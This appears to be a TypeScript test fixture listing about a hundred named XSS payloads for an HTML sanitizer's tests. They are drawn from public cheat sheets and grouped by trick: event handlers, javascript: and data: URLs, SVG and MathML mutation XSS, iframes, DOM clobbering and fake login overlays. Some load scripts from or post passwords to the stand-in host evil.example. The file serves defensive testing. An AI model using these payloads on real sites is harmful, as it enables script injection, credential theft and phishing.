/**
 * XSS payloads, each placed inside an article body by the sanitizer tests. Grouped by trick; a
 * name says what the payload tries. Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's
 * XSS cheat sheet, DOMPurify's own test corpus and its mutation-XSS write-ups.
 */
export const PAYLOADS: Array<[name: string, html: string]> = [
  // Script tags in all spellings
  ['script tag', '<script>alert(1)</script>'],
  ['script tag, upper case', '<SCRIPT>alert(1)</SCRIPT>'],
  ['script tag, mixed case with src', '<ScRiPt src="https://evil.example/x.js"></sCrIpT>'],
  ['script with a slash for a space', '<script/src="https://evil.example/x.js"></script>'],
  ['script split by a nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script with a stray attribute quote', '<script a=">" src="https://evil.example/x.js"></script>'],
  ['script, unclosed', '<p>text <script>alert(1)</p>'],
  ['script of type module', '<script type="module">import("https://evil.example/x.js")</script>'],

  // Event handlers on every kind of element
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror without quotes or spaces', '<img src=x onerror=alert(1)//>'],
  ['img onload, upper case', '<IMG SRC="https://img.example/a.jpg" ONLOAD="alert(1)">'],
  ['body onload', '<body onload=alert(1)>'],
  ['div onmouseover', '<div onmouseover="alert(1)">hover me</div>'],
  ['a onclick', '<a href="https://ok.example/" onclick="alert(1)">link</a>'],
  ['p onpointerenter', '<p onpointerenter=alert(1)>pointer</p>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary>x</details>'],
  ['video onerror in a source', '<video><source onerror="alert(1)" src="x"></video>'],
  ['audio onloadstart', '<audio src="https://media.example/a.mp3" onloadstart=alert(1)></audio>'],
  ['table onfocus with autofocus', '<table><tr><td tabindex=1 autofocus onfocus=alert(1)>cell</td></tr></table>'],
  ['marquee onstart', '<marquee onstart=alert(1)>scroll</marquee>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['handler after a slash', '<img/src="x"/onerror="alert(1)">'],
  ['handler behind a newline', '<img src=x\nonerror\n=\nalert(1)>'],

  // Dangerous URLs: javascript:, vbscript:, data:, entity-encoded and whitespace-split
  ['a href javascript:', '<a href="javascript:alert(1)">click</a>'],
  ['a href JAVASCRIPT: in upper case', '<a href="JAVASCRIPT:alert(1)">click</a>'],
  ['a href javascript: with leading space', '<a href=" javascript:alert(1)">click</a>'],
  ['a href javascript: split by a tab', '<a href="java\tscript:alert(1)">click</a>'],
  ['a href javascript: split by an encoded newline', '<a href="java&#10;script:alert(1)">click</a>'],
  ['a href javascript: fully entity-encoded', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>'],
  ['a href javascript: hex entities without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">click</a>'],
  ['a href javascript&colon;', '<a href="javascript&colon;alert(1)">click</a>'],
  ['a href vbscript:', '<a href="vbscript:msgbox(1)">click</a>'],
  ['a href data:text/html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'],
  ['img src javascript:', '<img src="javascript:alert(1)">'],
  ['img src data:image/svg+xml', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['img srcset with javascript:', '<img src="https://img.example/a.jpg" srcset="javascript:alert(1) 1x, https://img.example/b.jpg 2x">'],
  ['img srcset, javascript: after a comma with no space', '<img src="https://img.example/a.jpg" srcset="https://img.example/a.jpg 1x,javascript:alert(1) 2x">'],
  ['img srcset, javascript: with no descriptor', '<img src="https://img.example/a.jpg" srcset="https://img.example/a.jpg 1x,javascript:alert(1)">'],
  ['img srcset, javascript: third of three', '<img src="https://img.example/a.jpg" srcset="https://img.example/a.jpg 1x, https://img.example/b.jpg 2x,javascript:x 3x">'],
  ['img srcset, data: at 2x', '<img src="https://img.example/a.jpg" srcset="https://img.example/a.jpg 1x,data:image/svg+xml,%3Csvg%3E 2x">'],
  ['img srcset, chrome-extension: at 2x', '<img src="https://img.example/a.jpg" srcset="https://img.example/a.jpg 1x,chrome-extension://abcdefghijklmnop/icon.png 2x">'],
  ['img srcset, loopback at 2x', '<img src="https://img.example/a.jpg" srcset="https://img.example/a.jpg 1x,http://127.0.0.1:8080/x.png 2x">'],
  ['source srcset, javascript: after a comma', '<picture><source srcset="https://img.example/a.webp 1x,javascript:alert(1) 2x"><img src="https://img.example/a.jpg"></picture>'],
  ['img src on loopback', '<img src="http://localhost:631/printers">'],
  ['a href to loopback', '<a href="http://[::1]:8080/admin">admin</a>'],
  ['video poster javascript:', '<video poster="javascript:alert(1)" src="https://media.example/v.mp4"></video>'],
  ['blockquote cite javascript:', '<blockquote cite="javascript:alert(1)"><p>quoted</p></blockquote>'],
  ['area href javascript:', '<map><area shape=rect coords="0,0,9,9" href="javascript:alert(1)"></map>'],
  ['table background javascript:', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['a ping tracker', '<a href="https://ok.example/" ping="https://tracker.example/">tracked</a>'],

  // Forms, formaction, and their tricks
  ['form action javascript:', '<form action="javascript:alert(1)"><input type=submit></form>'],
  ['button formaction', '<form><button formaction="javascript:alert(1)">go</button></form>'],
  ['input type=image formaction', '<input type="image" src="https://img.example/a.png" formaction="javascript:alert(1)">'],
  ['phishing login form', '<form action="https://evil.example/steal" method=post><input name=password type=password><button>Log in</button></form>'],
  ['isindex', '<isindex action="javascript:alert(1)" type=image>'],

  // SVG
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg a xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>'],
  ['svg animate sets href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>'],
  ['svg set sets href', '<svg><a><set attributeName=href to="javascript:alert(1)" /><text x=20 y=20>click</text></a></svg>'],
  ['svg foreignObject', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>'],
  ['svg use with data: URL', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=1 onerror=alert(1) /></svg>#x"></use></svg>'],

  // MathML and namespace confusion
  ['math mglyph style breakout', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['math mtext form breakout', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['math annotation-xml', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>'],
  ['math href', '<math href="javascript:alert(1)"><mi>x</mi></math>'],

  // Page-level tags
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh to a site', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['base href', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['link import', '<link rel="import" href="https://evil.example/x.html">'],
  ['style @import', '<style>@import "https://evil.example/x.css";</style>'],
  ['style that hides the page', '<style>body { display: none }</style>'],
  ['title breakout', '<title><img src=x onerror=alert(1)></title>'],

  // Frames, objects, embeds
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe javascript: src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe of a site not on the list', '<iframe src="https://evil.example/frame.html"></iframe>'],
  ['iframe that looks like YouTube', '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>'],
  ['iframe YouTube over http', '<iframe src="http://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>'],
  ['allowed iframe with srcdoc', '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['allowed iframe with onload', '<iframe src="https://player.vimeo.com/video/76979871" onload="alert(1)"></iframe>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['object with a flash movie', '<object type="application/x-shockwave-flash" data="https://evil.example/x.swf"><param name=movie value="https://evil.example/x.swf"></object>'],
  ['embed src', '<embed src="javascript:alert(1)">'],
  ['embed svg', '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],

  // CSS tricks through style attributes
  ['style expression()', '<div style="width: expression(alert(1))">x</div>'],
  ['style url(javascript:)', '<div style="background-image: url(javascript:alert(1))">x</div>'],
  ['style -moz-binding', '<div style="-moz-binding: url(https://evil.example/xss.xml#x)">x</div>'],
  ['fixed overlay', '<div style="position:fixed;inset:0;z-index:99999;background:#fff"><a href="https://evil.example/login">Your session expired: log in again</a></div>'],
  ['class borrowing Lede\'s UI', '<div class="not-article actions"><button class="primary">Open reader</button></div>'],

  // Templates, clobbering, mutation XSS
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['DOM clobbering by id', '<img id="getElementById" src="https://img.example/a.png"><a id="location" href="https://evil.example/">x</a>'],
  ['DOM clobbering by name', '<form name="cookie"><img name="body" src="https://img.example/a.png"></form>'],
  ['noscript attribute breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'],
  ['p breakout in an attribute', '<p title="</p><img src=x onerror=alert(1)>">x</p>'],
  ['comment breakout', '<!--><img src=x onerror=alert(1)>-->'],
  ['textarea breakout', '<textarea></textarea><img src=x onerror=alert(1)></textarea>'],
  ['noembed breakout', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['xmp breakout', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ['custom element with is', '<p is="x-evil" onclick=alert(1)>x</p>'],
  ['dialog overlay', '<dialog open>Your session expired. <a href="https://evil.example/">Log in</a></dialog>'],
  ['popover', '<div popover id=p>x</div><a popovertarget=p href="https://ok.example/">x</a>'],

  // Link targets
  ['target=_self', '<a href="https://ok.example/" target="_self">self</a>'],
  ['target=_top with an opener rel', '<a href="https://ok.example/" target="_top" rel="opener">top</a>'],
  ['target on a non-link', '<p target="_blank">x</p>'],
  ['in-page link to a clobbered anchor', '<a href="#top">back to top</a>'],
];
